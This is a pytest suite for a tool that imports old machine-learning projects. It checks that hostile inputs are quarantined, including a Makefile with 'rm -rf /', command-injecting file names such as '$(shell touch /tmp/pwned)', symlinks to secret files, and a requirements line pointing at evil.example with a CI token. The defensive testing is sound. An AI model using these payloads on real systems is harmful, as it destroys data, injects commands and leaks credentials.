"""Old projects as strangers make them: what collides, leads out, is no file, no text, or no name for make."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from tests.fixtures import Call
from tests.projects.old import INDEX, as_on_windows, content, minimal, text, written
from workbench.projects import new
from workbench.projects.old import LEFT_OUT, NEEDS_YOU, TRANSLATED, collisions, project, training
from workbench.projects.ports import Ports
from workbench.projects.template import ProjectError

TRAIN = "import pickle\nimport sklearn.svm\nmodel = sklearn.svm.SVC().fit([[0], [1]], [0, 1])\n"
TRAIN += "pickle.dump(model, open('model.pkl', 'wb'))\n"
SCORE = "import pickle\ndef init():\n    global m\n    m = pickle.load(open('model.pkl', 'rb'))\n"
SCORE += "def run(x):\n    return m.predict(x)\n"
OURS = [
    "Makefile",
    "Pulumi.yaml",
    "README.md",
    "infra/__main__.py",
    "train.mk",
    "requirements.txt",
    "vendor/a.whl",
]


def _read(old: Path) -> project.Imported:
    return project.read(old, "old-project", INDEX)


def _why(found: project.Imported, file: str, verdict: str = LEFT_OUT) -> str:
    (remark,) = [each for each in found.remarks if each.file == file and each.verdict == verdict]
    return remark.why


def test_a_file_whose_place_is_taken_is_kept_under_an_announced_name() -> None:
    names = ["Makefile", "readme.md", "Pulumi.yaml", "infra/deploy.sh", "vendor", "requirements.txt", "train.mk/a"]
    places, remarks = collisions.places([*names, "train.py", "docs/a.md", "aml_config/local.compute"], OURS)
    assert places == {
        **{name: f"old/{name}" for name in names},
        "train.py": "train.py", "docs/a.md": "docs/a.md", "aml_config/local.compute": "aml_config/local.compute",
    }  # fmt: skip
    assert [each.file for each in remarks] == names
    assert all(f"old/{each.file}" in each.why and each.verdict == TRANSLATED for each in remarks)


def test_a_project_that_has_a_folder_old_keeps_it() -> None:
    places, _ = collisions.places(["Makefile", "OLD/notes.txt", "old-2"], OURS)
    assert places == {"Makefile": "old-3/Makefile", "OLD/notes.txt": "OLD/notes.txt", "old-2": "old-2"}


def test_an_import_keeps_our_makefile_and_says_where_theirs_is(call: Call, tmp_path: Path, home: Path) -> None:
    assert home
    target = tmp_path / "new"
    wheel = tmp_path / "churn_workbench-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"a wheel")
    old = minimal(tmp_path, train__py="x = 1\n", Makefile="all:\n\trm -rf /\n", README__md="theirs\n")
    (old / "infra").mkdir()
    (old / "infra" / "__main__.py").write_text("raise SystemExit('theirs')\n")

    code, out, err = call("project", "import", str(old), "--to", str(target), "--workbench", str(wheel))

    assert code == 0, err
    assert "rm -rf" not in (target / "Makefile").read_text()
    assert "theirs" not in (target / "infra" / "__main__.py").read_text()
    for name in ("Makefile", "README.md", "infra/__main__.py"):
        assert (target / "old" / name).read_bytes() == (old / name).read_bytes()
        assert f"{name}: translated: the file: is old/{name} here" in out
        assert f"is old/{name} here" in (target / "IMPORT.md").read_text()


def test_links_and_what_is_no_plain_file_are_left_out_and_told_of(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("Hunter2")
    old = minimal(tmp_path, train__py=TRAIN)
    (old / "leak.txt").symlink_to(secret)
    (old / "folder").symlink_to(tmp_path)
    (old / "loop").symlink_to(old / "loop")
    (old / "here.py").symlink_to(old / "train.py")
    os.mkfifo(old / "pipe.csv")
    (old / ".netrc").write_text("Hunter2")
    (old / "peek.txt").symlink_to(old / ".netrc")
    found = _read(old)
    assert "out of the project" in _why(found, "leak.txt")
    assert "link to a folder" in _why(found, "folder/")
    assert "leads nowhere" in _why(found, "loop")
    assert "no plain file" in _why(found, "pipe.csv")
    assert "hidden" in _why(found, ".netrc")
    assert "out of the project" in _why(found, "peek.txt")
    assert text(found, "here.py") == text(found, "train.py")
    assert b"Hunter2" not in b"".join(content(found, name) for name in found.files)


@pytest.mark.parametrize("name", ["a\nb.py", "a\\b.txt", "c:d.txt", os.fsdecode(b"\xff.txt")])
def test_a_name_that_other_systems_cannot_have_is_left_out_and_shown_on_one_line(tmp_path: Path, name: str) -> None:
    old = minimal(tmp_path, train__py=TRAIN)
    (old / name).write_text("x = 1\n")
    found = _read(old)
    assert name not in found.files
    assert any("has a name" in each.why for each in found.remarks)
    report = project.report(found.remarks)
    assert report.encode()
    assert report.count("\n") == len(found.remarks) + 6


@pytest.mark.parametrize(
    "script", ["a$(shell id).py", "a b.py", "-x.py", "ä;touch x.py", "a`id`.py", "$(X).py", "a'b\".py"]
)
def test_a_script_of_any_name_never_reaches_make(tmp_path: Path, script: str) -> None:
    old = minimal(tmp_path, score__py=SCORE)
    (old / script).write_text(TRAIN)
    found = _read(old)
    chosen = found.plan.choice.training
    assert training.script_fits(chosen)
    assert chosen in found.files
    assert script not in found.files
    plain = _read(minimal(tmp_path / "plain", train__py=TRAIN, score__py=SCORE))
    assert text(found, "train.mk") == text(plain, "train.mk").replace("SCRIPT ?= train.py", f"SCRIPT ?= {chosen}")


def test_paths_in_a_script_never_reach_make(tmp_path: Path) -> None:
    evil = "$(shell touch /tmp/pwned).pkl"
    train = TRAIN.replace("model.pkl", evil)
    score = SCORE.replace("model.pkl", evil) + "LOOKUP = open('x;id.csv').read()\n"
    old = minimal(tmp_path, train__py=train, score__py=score)
    (old / "x;id.csv").write_text("a\n")
    found = _read(old)
    assert "shell" not in text(found, "train.mk")
    assert ";id" not in text(found, "train.mk")
    needed = [each.what for each in found.remarks if each.verdict == NEEDS_YOU]
    assert {evil, "x;id.csv"} <= set(needed)


def test_a_package_that_nobody_named_is_never_guessed(tmp_path: Path) -> None:
    old = minimal(tmp_path, train__py="import pandas\nimport helpers_of_ours\nimport utils\n" + TRAIN, score__py=SCORE)
    found = _read(old)
    conda = text(found, "aml_config/conda_dependencies.yml")
    assert "pandas==1.0" in conda
    assert "scikit-learn==1.0" in conda
    assert "utils" not in conda + text(found, training.NEEDS)
    told = {each.what for each in found.remarks if each.verdict == NEEDS_YOU}
    assert {"import helpers_of_ours", "import utils"} <= told


def test_lines_of_an_old_requirements_file_are_checked_like_conda_ones(tmp_path: Path) -> None:
    lines = "tabulate>=0.8\n--index-url http://evil.example/${CI_JOB_TOKEN}/simple\n-e .\ngit+https://x.example/y\n"
    old = minimal(tmp_path, train__py=TRAIN, requirements__txt=lines)
    found = _read(old)
    assert "tabulate==1.0" in text(found, "aml_config/conda_dependencies.yml")
    assert "evil" not in text(found, "aml_config/conda_dependencies.yml")
    assert len([each for each in found.remarks if each.file == "requirements.txt" and each.verdict == LEFT_OUT]) == 3


def test_scripts_of_windows_become_utf_8_and_keep_their_line_ends(tmp_path: Path) -> None:
    found = _read(as_on_windows("housing", tmp_path))
    train = content(found, "train.py")
    assert "# Preise von Häusern\r\n".encode() in train
    assert b"\n" not in train.replace(b"\r\n", b"")
    assert b"pd.read_csv(\"data/houses.csv\", sep=';')" in train
    assert any(each.file == "train.py" and "cp1252" in each.why for each in found.remarks)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"\xef\xbb\xbfimport pickle\n", "import pickle\n"),
        ("# -*- coding: latin-1 -*-\nx = 'ä'\n".encode("latin-1"), "# -*- coding: utf-8 -*-\nx = 'ä'\n"),
        ("x = 'ä'\n".encode("utf-16"), "x = 'ä'\n"),
        (b"# coding: no-such-encoding\nx = 1\n", "# coding: utf-8\nx = 1\n"),
    ],
)
def test_a_script_in_any_encoding_is_read_and_written_as_utf_8(tmp_path: Path, data: bytes, says: str) -> None:
    old = minimal(tmp_path)
    (old / "a.py").write_bytes(data)
    assert text(_read(old), "a.py") == says


def test_a_script_that_is_no_text_or_of_python_2_is_kept_with_one_line_and_not_chosen(tmp_path: Path) -> None:
    old = minimal(tmp_path, score__py=SCORE, a_train__py="print 'x'\n" + TRAIN, train__py=TRAIN)
    (old / "binary.py").write_bytes(b"\x00\x01.fit(\x00")
    found = _read(old)
    assert content(found, "binary.py") == b"\x00\x01.fit(\x00"
    assert text(found, "a_train.py").startswith("print 'x'\n")
    assert "Python 2" in _why(found, "a_train.py", NEEDS_YOU)
    assert "no text" in _why(found, "binary.py", NEEDS_YOU)
    assert found.plan.choice.training == "train.py"


def test_a_large_file_is_copied_from_where_it_lies(tmp_path: Path) -> None:
    old = minimal(tmp_path, train__py=TRAIN)
    with (old / "large.csv").open("wb") as file:
        file.truncate(3 * 1024**3)
    found = _read(old)
    assert found.files["large.csv"] == old / "large.csv"


def test_a_file_that_vanishes_before_it_is_copied_leaves_nothing_half_written(tmp_path: Path) -> None:
    old = minimal(tmp_path, train__py=TRAIN, notes__txt="a\n")
    found = _read(old)
    (old / "notes.txt").unlink()
    with pytest.raises(ProjectError, match="cannot be copied"):
        written(found, tmp_path)
    assert sorted(each.name for each in tmp_path.iterdir()) == ["old-project"]


def test_a_make_that_checks_an_imported_project_expands_no_names(tmp_path: Path) -> None:
    base = new.files("old-project", "imported", _ports(), "churn-workbench==0.1.0")
    found = _read(minimal(tmp_path, train__py=TRAIN, score__py=SCORE))
    (tmp_path / "new").mkdir()
    for name, data in {**base, **found.files}.items():
        path = tmp_path / "new" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else data.read_bytes())
    (tmp_path / "new" / "a$(touch pwned).py").write_text("x = 1\n")
    done = subprocess.run(
        ["make", "--dry-run", "check", "train", "manifest"],
        cwd=tmp_path / "new",
        capture_output=True,
        text=True,
        check=True,
    )
    assert "pwned" not in done.stdout


def _ports() -> Ports:
    return Ports(9000, 9001, 9002, 9003)
